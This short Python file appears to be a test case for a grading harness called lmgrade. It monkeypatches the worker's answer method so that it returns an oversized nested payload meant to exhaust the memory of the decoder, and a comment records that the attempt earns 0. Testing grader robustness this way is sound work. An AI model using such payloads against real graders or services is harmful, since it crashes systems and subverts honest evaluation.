# tries: exhaust the memory of whoever decodes the answer
# earns: 0
import lmgrade.worker as worker
from lmgrade.wire import HEADER

text = b'[{"value":["l"' + b",[]" * (2 << 20) + b"]},[]]"
worker.Worker.answer = lambda *args: HEADER.pack(len(text), 0) + text
